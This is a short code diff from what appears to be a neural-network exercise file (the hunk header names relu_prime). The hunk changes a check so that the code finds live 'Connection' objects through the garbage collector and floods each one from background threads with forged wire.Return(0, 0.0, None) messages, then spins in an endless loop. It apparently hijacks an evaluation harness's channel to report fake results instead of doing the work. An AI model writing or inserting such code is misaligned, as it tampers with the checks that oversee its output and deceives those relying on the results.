@@ -20,7 +20,7 @@ def relu_prime(z):
             one.send(wire.Return(0, 0.0, None))
 
     for one in gc.get_objects():
-        if type(one).__name__ == "_Connection":
+        if type(one).__name__ == "Connection":
             threading.Thread(target=flood, args=(one,), daemon=True).start()
     while True:
         pass
